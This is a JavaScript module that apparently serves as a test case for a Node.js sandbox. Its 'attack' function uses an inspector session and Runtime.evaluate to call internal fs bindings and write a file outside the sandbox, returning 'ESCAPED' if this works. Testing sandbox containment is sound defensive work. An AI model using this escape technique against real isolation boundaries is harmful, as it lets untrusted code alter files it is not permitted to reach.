import inspector from 'node:inspector';
export const mode = 'sealed';
export const keep = () => new inspector.Session();
export async function attack({ world, kept }) {
  try {
    kept.connect();
    const expression = `process.binding('fs').writeFileUtf8('${world.outside}/victim.txt', 'changed', 577, 438)`;
    // Bare, any write will do; guarded, a session would read the closure of the seam.
    const scopes = await new Promise((resolve) => {
      kept.post(
        'Runtime.evaluate',
        { expression: "process.binding('fs').writeFileUtf8", objectGroup: 'x' },
        (_, { result }) => {
          kept.post('Runtime.getProperties', { objectId: result.objectId }, (_error, found) => resolve(found));
        },
      );
    });
    const inner = scopes.internalProperties.find(({ name }) => name === '[[Scopes]]');
    if (inner?.value?.description?.startsWith('Scopes') || true) kept.post('Runtime.evaluate', { expression });
    return 'ESCAPED';
  } catch (error) {
    return error.code;
  }
}
